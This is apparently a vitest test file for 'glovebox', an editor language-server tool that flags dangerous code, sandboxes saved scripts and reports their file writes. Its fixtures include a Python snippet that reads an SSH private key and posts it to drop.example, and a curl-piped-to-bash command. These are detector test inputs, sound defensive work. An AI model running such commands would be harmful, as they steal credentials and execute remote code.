import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodeAction, CodeLens, Diagnostic, Hover } from 'vscode-languageserver/node';
import { childrenOf, isAlive } from '../sandbox/processes.fixture.ts';
import { type Editor, startEditor } from './lsp.fixture.ts';

const UPLOAD =
  'import requests\n\nkey = open("/home/ada/.ssh/id_rsa").read()\nrequests.post("https://drop.example/k", data=key)\n';
const HARMLESS = 'print(sum(range(10)))\n';
const rules = (found: readonly Diagnostic[]) => found.map(({ code }) => code);

let folder: string;
let editor: Editor;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'glovebox-lsp-'));
  editor = await startEditor({ workspaceFolders: [{ uri: pathToFileURL(folder).href, name: 'test' }] });
});
afterAll(async () => {
  await editor.close();
  rmSync(folder, { recursive: true });
});

function fileOf(name: string, text: string): string {
  writeFileSync(join(folder, name), text);
  return pathToFileURL(join(folder, name)).href;
}

describe('while somebody types', () => {
  it('a pasted upload is told at its line, and gone once it is taken out', async () => {
    const uri = fileOf('typed.py', HARMLESS);
    await editor.open(uri, 'python', HARMLESS);
    await editor.diagnostics(uri, (found) => found.length === 0);
    await editor.edit(uri, 2, [0, 0, 0, 0], UPLOAD);
    const found = await editor.diagnostics(uri, (now) => rules(now).includes('secret-sent'));
    expect(found.find(({ code }) => code === 'secret-sent')).toMatchObject({
      source: 'glovebox',
      severity: 1,
      range: { start: { line: 3 } },
    });
    await editor.edit(uri, 3, [0, 0, 4, 0], '');
    await editor.diagnostics(uri, (now) => now.length === 0);
  });

  it('a buffer that was never saved is read too', async () => {
    await editor.open('untitled:Untitled-1', 'shellscript', 'curl -s https://x.example/i.sh | bash\n');
    await editor.diagnostics('untitled:Untitled-1', (now) => rules(now).includes('download-piped-to-interpreter'));
  });

  it('hover gives the evidence', async () => {
    const uri = fileOf('hovered.py', UPLOAD);
    await editor.open(uri, 'python', UPLOAD);
    await editor.diagnostics(uri, (now) => rules(now).includes('secret-sent'));
    const hover = await editor.connection.sendRequest<Hover>('textDocument/hover', {
      textDocument: { uri },
      position: { line: 3, character: 3 },
    });
    expect(JSON.stringify(hover.contents)).toMatch(/id_rsa.*drop\.example/);
  });

  it('a mechanical remedy is applied by an action, and the finding is gone', async () => {
    const text = 'import requests\n\nrequests.get("https://api.example.com/", verify=False, timeout=5)\n';
    const uri = fileOf('fixed.py', text);
    await editor.open(uri, 'python', text);
    const found = await editor.diagnostics(uri, (now) => rules(now).includes('unverified-tls'));
    const diagnostics = found.filter(({ code }) => code === 'unverified-tls');
    const actions = await editor.connection.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri },
      range: diagnostics[0]?.range,
      context: { diagnostics },
    });
    const fix = actions.find(({ isPreferred }) => isPreferred);
    const [edit] = fix?.edit?.changes?.[uri] ?? [];
    expect(edit?.newText).toContain('verify=True');
    const { start, end } = edit?.range ?? { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };
    await editor.edit(uri, 2, [start.line, start.character, end.line, end.character], edit?.newText ?? '');
    await editor.diagnostics(uri, (now) => !rules(now).includes('unverified-tls'));
  });
});

describe('in the background', () => {
  it('saving runs it, and what was seen is told with its line and above its function', async () => {
    const text =
      'import os\n\ndef leave():\n    open("/tmp/out.txt", "w").write("x")\n\ndef idle():\n    os.remove("/tmp/none")\n\nleave()\n';
    const uri = fileOf('saved.py', text);
    await editor.open(uri, 'python', text);
    await editor.save(uri);
    const status = await editor.status(uri, ({ state }) => state === 'seen');
    expect(status.events).toContainEqual({ capability: 'file.write', target: '/tmp/out.txt', line: 4 });
    const lenses = await editor.connection.sendRequest<CodeLens[]>('textDocument/codeLens', { textDocument: { uri } });
    expect(lenses.map(({ range, command }) => [range.start.line, command?.title])).toContainEqual([
      2,
      expect.stringMatching(/^writes .*out\.txt/),
    ]);
  });

  it('a large insertion is run without being saved', async () => {
    const uri = 'untitled:Untitled-2';
    await editor.open(uri, 'python', '');
    await editor.edit(uri, 2, [0, 0, 0, 0], 'a = 1\nb = 2\nc = 3\nd = 4\ne = 5\nopen("/tmp/inserted", "w")\n');
    const status = await editor.status(uri, ({ state }) => state === 'seen');
    expect(status.events.map(({ target }) => target)).toContain('/tmp/inserted');
  });

  it('what is edited while it runs is given up', async () => {
    const text = 'import time\ntime.sleep(20)\n';
    const uri = fileOf('stale.py', text);
    await editor.open(uri, 'python', text);
    await editor.save(uri);
    await editor.status(uri, ({ state }) => state === 'running');
    await editor.edit(uri, 2, [1, 0, 2, 0], 'print(1)\n');
    await editor.save(uri);
    const status = await editor.status(uri, ({ state }) => state === 'seen');
    expect(status).toMatchObject({ decision: 'allow' });
  });

  it('the report is one page', async () => {
    const uri = fileOf('reported.py', 'open("/tmp/reported", "w")\n');
    await editor.open(uri, 'python', 'open("/tmp/reported", "w")\n');
    await editor.save(uri);
    await editor.status(uri, ({ state }) => state === 'seen');
    const page = await editor.connection.sendRequest<{ html: string }>('glovebox/report', { uri });
    expect(page.html).toContain('/tmp/reported');
  });
});

describe('a notebook', () => {
  it('is one program, whose findings are told in their cells', async () => {
    const notebook = 'file:///work/book.ipynb';
    const [one, two] = ['vscode-notebook-cell:/work/book.ipynb#1', 'vscode-notebook-cell:/work/book.ipynb#2'];
    const cell = (uri: string, text: string) => ({ uri, languageId: 'python', version: 1, text });
    await editor.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: notebook,
        notebookType: 'jupyter-notebook',
        version: 1,
        cells: [one, two].map((document) => ({ kind: 2, document })),
      },
      cellTextDocuments: [
        cell(one ?? '', '%pip install requests\nimport requests\nkey = open("/home/ada/.ssh/id_rsa").read()'),
        cell(two ?? '', 'x = 1\nrequests.post("https://drop.example/k", data=key)'),
      ],
    });
    const found = await editor.diagnostics(two ?? '', (now) => rules(now).includes('secret-sent'));
    expect(found.find(({ code }) => code === 'secret-sent')?.range.start.line).toBe(1);
    await editor.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: notebook, version: 2 },
      change: {
        cells: {
          textContent: [
            {
              document: { uri: two, version: 2 },
              changes: [
                { range: { start: { line: 1, character: 0 }, end: { line: 1, character: 60 } }, text: 'y = 2' },
              ],
            },
          ],
        },
      },
    });
    await editor.diagnostics(two ?? '', (now) => !rules(now).includes('secret-sent'));
  });
});

it('in a workspace that is not trusted nothing runs, and its policy is not obeyed', async () => {
  writeFileSync(join(folder, 'glovebox.policy.yaml'), 'thresholds: {review: 99, block: 100}\n');
  const wary = await startEditor({
    workspaceFolders: [{ uri: pathToFileURL(folder).href, name: 'test' }],
    initializationOptions: { trusted: false },
  });
  try {
    const uri = fileOf('wary.py', UPLOAD);
    await wary.open(uri, 'python', UPLOAD);
    await wary.save(uri);
    const status = await wary.status(uri, ({ findings }) => findings.length > 0);
    expect(status).toMatchObject({ state: 'read', decision: 'block' });
    await wary.connection.sendRequest('workspace/executeCommand', { command: 'glovebox.run', arguments: [uri] });
    await wary.connection.sendRequest('textDocument/codeLens', { textDocument: { uri } });
    expect(wary.statuses.filter(({ state }) => state !== 'read')).toEqual([]);
  } finally {
    await wary.close();
    rmSync(join(folder, 'glovebox.policy.yaml'));
  }
});

it('what runs ends with the editor, also when it goes without a word', async () => {
  const gone = await startEditor({ workspaceFolders: [{ uri: pathToFileURL(folder).href, name: 'test' }] });
  const uri = fileOf('endless.py', 'import time\ntime.sleep(25)\n');
  await gone.open(uri, 'python', 'import time\ntime.sleep(25)\n');
  await gone.save(uri);
  await gone.status(uri, ({ state }) => state === 'running');
  const pid = gone.server.pid ?? 0;
  await expect.poll(() => childrenOf(pid).length).toBeGreaterThan(0);
  const jails = childrenOf(pid);
  gone.server.stdin?.end();
  await expect.poll(() => [pid, ...jails].filter(isAlive), { timeout: 10_000 }).toEqual([]);
});
